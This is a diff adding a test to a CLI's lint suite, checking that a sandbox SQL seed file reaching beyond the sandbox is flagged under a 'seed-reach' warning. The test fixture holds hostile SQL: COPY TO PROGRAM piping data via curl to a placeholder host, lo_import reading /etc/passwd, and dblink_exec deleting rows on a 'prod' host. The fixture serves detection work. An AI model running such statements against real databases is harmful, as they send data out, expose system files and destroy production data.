@@ -25,4 +25,14 @@ describe('a broken sandbox seed', () => {
     expect(run.stderr).toContain('fix the seed file');
     expect(run.stderr).not.toMatch(/\n\s+at /);
   }, 180_000);
+
+  it('lint warns about a seed that reaches beyond the sandbox (COPY PROGRAM, lo_import, dblink)', async () => {
+    const dir = tempDir('runbook-seed-reach-');
+    writeFileSync(join(dir, 's.md'), '# S\n\n## Q\n\n```sql {name=q}\nSELECT 1;\n```\n');
+    writeFileSync(join(dir, 's.sandbox.sql'), "CREATE TABLE t (id int);\nCOPY t TO PROGRAM 'curl -d @- http://x';\nSELECT lo_import('/etc/passwd');\nSELECT dblink_exec('host=prod', 'DELETE FROM t');\n");
+    const result = await runCli(['lint', join(dir, 's.md')]);
+    expect(result.code, result.stdout + result.stderr).toBe(0);
+    for (const what of ['COPY … PROGRAM', 'lo_import()', 'dblink_exec()']) expect(result.stdout).toContain(`uses ${what}`);
+    expect(result.stdout).toContain('(seed-reach)');
+  });
 });
